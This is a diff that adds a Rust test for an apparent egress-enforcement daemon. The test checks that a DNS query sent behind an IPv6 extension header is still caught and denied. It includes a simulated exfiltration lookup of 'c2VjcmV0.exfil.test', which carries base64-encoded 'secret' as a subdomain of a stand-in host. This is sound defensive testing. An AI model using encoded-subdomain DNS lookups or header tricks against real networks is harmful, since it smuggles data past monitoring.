@@ -358,3 +358,29 @@ fn a_forged_answer_racing_the_server_binds_nothing() {
     assert_eq!(refused[0]["action"], "denied", "{}", dump(&events));
     assert!(refused[0].get("name").is_none(), "not bound to the name: {}", refused[0]);
 }
+
+#[test]
+fn a_query_behind_an_ipv6_extension_header_is_still_judged() {
+    if !root_or_skip("a_query_behind_an_ipv6_extension_header_is_still_judged") {
+        return;
+    }
+    let daemon = Daemon::start();
+    let v6 = DnsServer::start("[::1]:53".parse().unwrap()).expect("a resolver on [::1]:53");
+    v6.set("api.llm.test", 30, vec![Record::A("127.0.0.1".parse().unwrap())]);
+    // The phase asks that resolver, with and without the header: both are learned.
+    teach(
+        &daemon,
+        "limited-write",
+        &["resolve6:api.llm.test:plain".into(), "resolve6:api.llm.test:hop".into()],
+    );
+    assert_eq!(entries(&daemon.baseline("limited-write"), "dns"), ["api.llm.test"]);
+    daemon.set_mode("limited-write", "enforce");
+    let leak = "c2VjcmV0.exfil.test";
+    let out = run(&daemon, "hop", "limited-write", &[format!("resolve6:{leak}:hop")]);
+    assert_eq!(out.status.code(), Some(99), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(!v6.queries().iter().any(|(n, _)| n == &leak.to_lowercase()), "the query never left");
+    let events = daemon.events_of("hop", WAIT);
+    let query = of_kind(&events, "dns", |e| e["op"] == "query" && e["name"] == leak.to_lowercase());
+    assert_eq!(query.len(), 1, "{}", dump(&events));
+    assert_eq!(query[0]["action"], "denied");
+}
